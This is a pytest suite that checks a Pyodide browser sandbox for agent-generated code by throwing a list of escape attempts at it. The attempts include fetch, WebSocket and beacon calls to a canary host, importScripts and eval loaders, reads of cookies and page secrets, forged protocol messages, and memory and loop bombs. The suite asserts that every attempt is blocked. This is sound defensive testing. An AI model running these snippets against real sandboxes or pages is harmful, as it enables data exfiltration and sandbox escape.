"""Generated code attacking the browser sandbox, with and without COOP/COEP.

Every attempt must fail: the canary server on 127.0.0.1 and the site's own
server see no request from the sandbox, the page's secrets stay out of reach,
and the sandbox answers the next step. Asynchronous attempts record how their
promise settled in `box`, which the test reads a moment later.
"""

from __future__ import annotations

import re
import time

import pytest

# Defined in the sandbox before the attacks; the attacks use them.
PRELUDE = """
import js, json, sys
from pyodide.ffi import to_js, create_proxy
def settle(promise):
    box = []
    promise.then(lambda value: box.append(["resolved", str(value)]),
                 lambda error: box.append(["rejected", str(error)]))
    return box
def listen(target, *events):
    box = []
    for name in events:
        target.addEventListener(name, create_proxy(lambda event, name=name: box.append([name, str(getattr(event, 'message', ''))])))
    return box
def blob_url(source, kind="text/javascript"):
    return js.URL.createObjectURL(js.Blob.new(to_js([source]), to_js({"type": kind}, dict_converter=js.Object.fromEntries)))
"""

BLOCKED = re.compile(r"Error|error|refused|denied|blocked|violat|not defined|has no attribute|undefined|Security|"
                     r"NotAllowed|null|Failed|failed|not a function|TypeError|network", re.IGNORECASE)

# (name, code, what the step must show). `expect`: "error" (the step raised), "async" (box settles as
# a rejection or never), a string (the step's output must match it), or None (only the canary judges).
ATTACKS = [
    # -- network ----------------------------------------------------------------------------
    ("fetch", "box = settle(js.fetch('CANARY/fetch'))", "async"),
    ("fetch own site", "box = settle(js.fetch('SITE/test/sandbox.html'))", "async"),
    ("fetch no-cors keepalive", "box = settle(js.fetch('CANARY/nocors', to_js({'mode': 'no-cors', 'keepalive': True}, dict_converter=js.Object.fromEntries)))", "async"),
    ("fetch POST secret", "box = settle(js.fetch('CANARY/post', to_js({'method': 'POST', 'body': 'x'}, dict_converter=js.Object.fromEntries)))", "async"),
    ("native fetch from prototype", "box = settle(js.WorkerGlobalScope.prototype.fetch.call(js.self, 'CANARY/proto'))", "async"),
    ("xhr sync", "x = js.XMLHttpRequest.new()\nx.open('GET', 'CANARY/xhr-sync', False)\nx.send()", "error"),
    ("xhr async", "x = js.XMLHttpRequest.new()\nbox = listen(x, 'load', 'error')\nx.open('GET', 'CANARY/xhr')\nx.send()", "async"),
    ("websocket", "ws = js.WebSocket.new('ws://CANARY_HOST/ws')\nbox = listen(ws, 'open', 'error')", "async"),
    ("eventsource", "es = js.EventSource.new('CANARY/sse')\nbox = listen(es, 'open', 'error')", "async"),
    ("sendBeacon", "js.navigator.sendBeacon('CANARY/beacon', 'x')", "error"),
    ("webtransport", "box = settle(js.WebTransport.new('https://CANARY_HOST/wt').ready)", "error"),
    ("pyodide.http.pyfetch", "import asyncio\nfrom pyodide.http import pyfetch\ntask = asyncio.ensure_future(pyfetch('CANARY/pyfetch'))\nbox = []\ntask.add_done_callback(lambda t: box.append(['rejected' if t.exception() else 'resolved', str(t.exception())]))", "async"),
    ("pyodide.http.open_url", "from pyodide.http import open_url\nopen_url('CANARY/open_url')", "error"),
    ("urllib", "import urllib.request\nurllib.request.urlopen('CANARY/urllib')", "error"),
    # Emscripten's socket layer would tunnel through a WebSocket, which connect-src 'none' refuses.
    ("socket", "import socket\ns = socket.create_connection(('127.0.0.1', CANARY_PORT))\ns.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')\ns.settimeout(0.5)\ns.recv(10)", None),
    # -- code loading -----------------------------------------------------------------------
    ("importScripts", "js.importScripts('CANARY/import.js')", "error"),
    ("importScripts from prototype", "js.WorkerGlobalScope.prototype.importScripts.call(js.self, 'CANARY/proto.js')", "error"),
    ("dynamic import via run_js", "from pyodide.code import run_js\nrun_js(\"import('CANARY/module.js')\")", "error"),
    ("eval", "js.eval(\"fetch('CANARY/eval')\")", "error"),
    ("Function constructor", "js.Function.new(\"return fetch('CANARY/function')\")()", "error"),
    ("constructor escape", "js.self.constructor.constructor(\"return fetch('CANARY/ctor')\")()", "error"),
    ("setTimeout with a string", "js.setTimeout(\"fetch('CANARY/timeout')\", 0)", None),
    ("blob module importing the canary", "from pyodide.code import run_js\nbox = settle(js.Promise.resolve(0))\nworker = js.Worker.new(blob_url(\"import 'CANARY/static-import.js'\"), to_js({'type': 'module'}, dict_converter=js.Object.fromEntries))", None),
    ("nested worker from a URL", "js.Worker.new('CANARY/worker.js')", "error"),
    ("nested blob worker fetching", "w = js.Worker.new(blob_url(\"fetch('CANARY/nested-fetch'); try { importScripts('CANARY/nested-import.js') } catch (e) {}; new WebSocket('ws://CANARY_HOST/nested')\"))\nbox = listen(w, 'error')", None),
    ("shared worker", "js.SharedWorker.new(blob_url('1'))", "error"),
    # loadPackage reports a failed download on the console and resolves anyway: the canary judges.
    ("loadPackage from the canary", "import pyodide_js\nbox = settle(pyodide_js.loadPackage('CANARY/evil-1.0-py3-none-any.whl'))", None),
    ("micropip", "import micropip", "error"),
    # -- storage ----------------------------------------------------------------------------
    ("localStorage", "js.localStorage.setItem('k', 'v')", "error"),
    ("sessionStorage", "js.sessionStorage.getItem('secret')", "error"),
    ("indexedDB", "request = js.indexedDB.open('steal')\nbox = listen(request, 'success', 'error')", "error-or-async"),
    ("caches", "box = settle(js.caches.open('steal'))", "error-or-async"),
    ("cookies", "js.document.cookie", "error"),
    ("cookieStore", "box = settle(js.cookieStore.getAll())", "error"),
    ("OPFS", "box = settle(js.navigator.storage.getDirectory())", "error-or-async"),
    ("BroadcastChannel to the page", "channel = js.BroadcastChannel.new('wasm-agent-test')\nchannel.postMessage('from the sandbox')", None),
    # -- the page ---------------------------------------------------------------------------
    ("parent", "js.parent.document", "error"),
    ("top", "js.top.location.href", "error"),
    ("page secret global", "js.pageSecret", "error"),
    ("open a window", "js.open('CANARY/popup')", "error"),
    ("navigate", "js.location.href = 'CANARY/navigate'", "error"),
    ("message to the parent window", "js.self.parent.postMessage('x', '*')", "error"),
    ("service worker", "box = settle(js.navigator.serviceWorker.register('CANARY/sw.js'))", "error"),
    # -- the protocol -----------------------------------------------------------------------
    ("forged result", "js.postMessage(json.dumps({'type': 'result', 'id': 999999, 'ok': True, 'value': {'output': 'forged'}}))\n'sent'", "sent"),
    ("forged tool call to an unknown tool", "js.postMessage(json.dumps({'type': 'tool_call', 'id': 5, 'name': 'steal_keys', 'args': [], 'kwargs': {}}))\n'sent'", "sent"),
    ("forged garbage and objects", "js.postMessage('not json')\njs.postMessage(to_js({'kind': 'start'}))\nport = js.MessageChannel.new().port1\njs.postMessage(port, to_js([port]))\n'sent'", "sent"),
    ("forged ready", "js.postMessage(json.dumps({'type': 'ready', 'bridge': 'none', 'interrupts': False}))\n'sent'", "sent"),
    ("huge message", "js.postMessage('{\"type\":\"log\",\"text\":\"' + 'x' * 17_000_000 + '\"}')\n'sent'", "sent"),
    ("huge tool argument", "echo('x' * 20_000_000)", "error"),
    ("huge output value", "'y' * 20_000_000", None),
    ("log flood", "for i in range(20000):\n    js.postMessage(json.dumps({'type': 'log', 'text': 'flood'}))\n'sent'", "sent"),
    # -- resources --------------------------------------------------------------------------
    ("deep recursion", "def down(n):\n    return down(n + 1)\ndown(0)", "error"),
    ("memory bomb", "bomb = bytearray(2**31)", "error"),
    ("lift the memory limit", "js.Object.defineProperty(js.WebAssembly.Memory.prototype, 'grow', to_js({'value': None}, dict_converter=js.Object.fromEntries))", "error"),
    ("output flood", "import sys, os\nfor i in range(200000):\n    print('flood' * 10)\nsys.stderr.write('e' * 10**7)\nos.write(1, b'direct' * 10**5)\n'done'", "done"),
    ("endless loop", "while True:\n    pass", "stopped"),
    ("endless loop after disabling interrupts", "import pyodide_js\npyodide_js.setInterruptBuffer(None)\nwhile True:\n    pass", "stopped"),
]


@pytest.fixture(scope="module")
def attacked(sandbox, canary, request):
    """The sandbox page, with the prelude defined and listeners in the page for what must not arrive."""
    sandbox.evaluate("""() => {
        window.pageSecret = 'sk-secret-key';
        localStorage.setItem('secret', 'sk-secret-key');
        window.broadcasts = [];
        new BroadcastChannel('wasm-agent-test').onmessage = (event) => broadcasts.push(event.data);
    }""")
    assert sandbox.run(PRELUDE)["error"] is None
    return sandbox


def _code(code: str, sandbox, canary) -> str:
    return (code.replace("CANARY_HOST", canary.host).replace("CANARY_PORT", canary.host.split(":")[1])
            .replace("CANARY", canary.url).replace("SITE", sandbox.site.url))


@pytest.mark.parametrize("name,code,expect", ATTACKS, ids=[attack[0] for attack in ATTACKS])
def test_attack_is_blocked(attacked, canary, name, code, expect):
    sandbox = attacked
    site_requests = len(sandbox.site.requests)
    # Endless loops meet a short limit; the rest get room for a loaded machine (importing
    # urllib took over 3 s at a load of 8 on 2 cores), so that their error is what is checked.
    result = sandbox.run(_code(code, sandbox, canary), timeout_ms=3000 if expect == "stopped" else 20000)
    if expect == "error":
        assert result["error"] and BLOCKED.search(result["error"]), result
    elif expect == "stopped":
        assert result["error"].startswith("Execution stopped"), result
    elif expect in ("async", "error-or-async"):
        if not result["error"]:
            time.sleep(0.3)
            box = sandbox.run("box")["output"]
            assert isinstance(box, list) and all(outcome[0] in ("rejected", "error") for outcome in box), box
        else:
            assert expect == "error-or-async" or BLOCKED.search(result["error"]), result
    elif expect is not None:
        assert result["error"] is None and re.search(expect, str(result["output"])), result
    if sandbox.run("prelude_ok = 'settle' in dir()\nprelude_ok")["output"] is not True:
        sandbox.run(PRELUDE)  # the attack cost the sandbox its state (a restart): set up again
    health = sandbox.run("add(40, 2)")
    assert health["output"] == 42, f"the sandbox did not recover from {name!r}: {health}"
    assert canary.requests == [], f"{name!r} reached the canary"
    assert len(sandbox.site.requests) == site_requests, f"{name!r} reached the site: {sandbox.site.requests[site_requests:]}"


def test_nothing_arrived_later(attacked, canary):
    time.sleep(1.5)  # late async attempts (timers, nested workers) have had their chance
    assert canary.requests == []
    assert attacked.evaluate("broadcasts") == []
    assert attacked.evaluate("localStorage.getItem('secret')") == "sk-secret-key"
    assert attacked.run("add(1, 1)")["output"] == 2


def test_attack_list_is_long_enough():
    assert len(ATTACKS) >= 40


# -- a late tool answer ------------------------------------------------------------------------
# Code that goes on after its tool call is cut by an interrupt, catching every KeyboardInterrupt:
# only replacing its worker stops it.
STUBBORN = ("try:\n    hold(KEY)\nfinally:\n    while True:\n        try:\n            while True:\n"
            "                pass\n        except BaseException:\n            pass")


@pytest.mark.parametrize("replaced_by", ["time limit", "interrupt", "reset", "nothing"])
def test_a_late_tool_answer_never_answers_the_next_runs_call(sandbox, replaced_by):
    """A run's tool call is still unanswered when its worker is replaced; the tool answers later, while
    the next run waits on its own call. A fresh worker numbers its calls from 1 again, so both calls have
    the same id (each is its worker's first): the late answer must be dropped, not taken for the new call.
    ("nothing": the code stops at the time limit and its worker serves the next run, whose call is its 2nd.)"""
    page, stale, fresh = sandbox.page, f"stale ({replaced_by})", f"fresh ({replaced_by})"
    held = lambda: sandbox.evaluate("sandboxTest.held()")  # noqa: E731
    sandbox.evaluate("sandboxTest.client.restart()")  # a fresh worker: the held call is its first
    restarts = len(sandbox.events("restarted"))
    try:
        if replaced_by in ("reset", "nothing"):  # the run ends, its call interrupted at the time limit
            result = sandbox.run(f"hold({stale!r})", timeout_ms=1000)
            assert result["error"].startswith("Execution stopped"), result
            if replaced_by == "reset":  # code ran in the worker: a reset replaces it
                sandbox.evaluate("sandboxTest.client.reset()")
            assert len(sandbox.events("restarted")) == restarts
        else:  # the code does not stop: the client replaces its worker past the grace
            limits = {"timeoutMs": 1000 if replaced_by == "time limit" else None}
            sandbox.evaluate("([code, limits]) => sandboxTest.runInBackground(code, limits)",
                             [STUBBORN.replace("KEY", repr(stale)), limits])
            page.wait_for_function("(key) => sandboxTest.held().includes(key)", arg=stale)
            if replaced_by == "interrupt":
                sandbox.evaluate("sandboxTest.client.interrupt()")
            page.wait_for_function("sandboxTest.backgroundResult !== null", timeout=30_000)
            result = sandbox.evaluate("sandboxTest.backgroundResult")
            assert "did not stop when interrupted" in result["error"], result
            assert len(sandbox.events("restarted")) == restarts + 1
        assert stale in held()  # the stopped run's call is still unanswered

        sandbox.evaluate("(code) => sandboxTest.runInBackground(code, {timeoutMs: 20000})",
                         f"answer = hold({fresh!r})\nanswer")
        page.wait_for_function("(key) => sandboxTest.held().includes(key)", arg=fresh)
        sandbox.evaluate("(key) => sandboxTest.release(key, 'the answer of the stopped run')", stale)
        time.sleep(0.5)  # time enough for a late answer to reach the worker, were it sent on
        assert sandbox.evaluate("sandboxTest.backgroundResult") is None  # the new call still waits for its own
        sandbox.evaluate("(key) => sandboxTest.release(key, 'its own answer')", fresh)
        page.wait_for_function("sandboxTest.backgroundResult !== null")
        result = sandbox.evaluate("sandboxTest.backgroundResult")
        assert result["error"] is None and result["output"] == "its own answer", result
        assert sandbox.run("add(40, 2)")["output"] == 42
    finally:  # nothing left waiting for the tests after this one
        for key in held():
            sandbox.evaluate("(key) => sandboxTest.release(key, null)", key)
        page.wait_for_function("sandboxTest.background === undefined || sandboxTest.backgroundResult !== null",
                               timeout=30_000)


def test_a_late_tool_answer_right_after_the_next_calls_own_does_not_replace_it(sandbox):
    """The worker serves the next run (its code stopped at the time limit). The stopped call's late answer comes
    right after the next call's own: with shared memory both would pass through the one buffer the worker reads
    its answer from, the late one over the other before it is read. The next call gets its own answer, each time."""
    page, restarts = sandbox.page, len(sandbox.events("restarted"))
    for attempt in range(5):  # the two answers race to the worker: one attempt may not show it
        stale, fresh = f"stopped {attempt}", f"next {attempt}"
        result = sandbox.run(f"hold({stale!r})", timeout_ms=300)
        assert result["error"].startswith("Execution stopped"), result
        sandbox.evaluate("(code) => sandboxTest.runInBackground(code, {timeoutMs: 10000})", f"hold({fresh!r})")
        page.wait_for_function("(key) => sandboxTest.held().includes(key)", arg=fresh)
        sandbox.evaluate("""([own, late]) => {
            sandboxTest.release(own, 'its own answer');
            sandboxTest.release(late, 'the answer of the stopped run');
        }""", [fresh, stale])
        page.wait_for_function("sandboxTest.backgroundResult !== null", timeout=30_000)
        result = sandbox.evaluate("sandboxTest.backgroundResult")
        assert result["error"] is None and result["output"] == "its own answer", (attempt, result)
    assert len(sandbox.events("restarted")) == restarts  # one worker served every run
    assert sandbox.run("add(40, 2)")["output"] == 42
